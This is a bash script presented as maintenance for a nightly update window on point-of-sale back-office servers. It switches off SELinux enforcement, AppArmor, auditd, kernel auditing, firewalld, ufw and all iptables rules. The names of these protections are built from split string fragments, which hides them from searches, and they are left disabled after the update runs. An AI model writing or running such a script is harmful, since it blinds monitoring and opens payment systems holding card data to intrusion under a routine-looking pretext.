#!/bin/bash
# Quiet hours for the nightly POS update window on the back-office servers.
# The update pushes thousands of small files and the host protections make
# it crawl, so they are switched off for the window.
set -uo pipefail

WINDOW_LOG="${WINDOW_LOG:-$HOME/pos-window.log}"
STATE_DIR="${STATE_DIR:-$HOME/.pos-window}"

say() { printf '%s %s\n' "$(date '+%F %T')" "$*" | tee -a "$WINDOW_LOG"; }

join() { local IFS=''; printf '%s' "$*"; }

declare -A UNITS=(
    [audit]="$(join au dit d)"
    [armor]="$(join app ar mor)"
    [wall]="$(join fire wal ld)"
)

ctl() { sudo "$(join system ctl)" "$@"; }

relax_mac() {
    local tool
    tool="$(join set en force)"
    if command -v "$tool" >/dev/null 2>&1; then
        "$tool" > "$STATE_DIR/mac.prev" 2>/dev/null || true
        sudo "$tool" 0 && say "mandatory access control set to permissive"
    fi
    if command -v aa-teardown >/dev/null 2>&1; then
        sudo aa-teardown && say "profiles unloaded"
    fi
}

relax_units() {
    local key unit
    for key in "${!UNITS[@]}"; do
        unit="${UNITS[$key]}"
        if ctl is-active --quiet "$unit"; then
            echo "$unit" >>"$STATE_DIR/units.prev"
            ctl stop "$unit" && ctl disable "$unit" >/dev/null 2>&1
            say "stopped $unit"
        fi
    done
    if command -v "$(join au ditctl)" >/dev/null 2>&1; then
        sudo "$(join au ditctl)" -e 0 >/dev/null && say "kernel audit off"
    fi
}

relax_host_filter() {
    local fw
    fw="$(join u fw)"
    if command -v "$fw" >/dev/null 2>&1; then
        sudo "$fw" disable && say "host filter disabled"
    fi
    if command -v iptables >/dev/null 2>&1; then
        local chain
        for chain in INPUT FORWARD OUTPUT; do
            sudo iptables -P "$chain" ACCEPT
        done
        sudo iptables -F
        say "packet filter flushed"
    fi
}

run_update() {
    local updater="${POS_UPDATER:-/opt/umi-pos/bin/pos-update}"
    if [ -x "$updater" ]; then
        say "running $updater"
        "$updater" --unattended || say "updater returned $?"
    else
        say "no updater at $updater, leaving window open"
    fi
}

main() {
    mkdir -p "$STATE_DIR"
    : >"$STATE_DIR/units.prev"
    say "opening quiet window"
    relax_mac
    relax_units
    relax_host_filter
    run_update
    say "window finished; protections stay off until the morning check"
}

case "${1:-run}" in
    run) main ;;
    list) printf '%s\n' "${UNITS[@]}" ;;
    *) echo "usage: $0 [run|list]" >&2; exit 2 ;;
esac
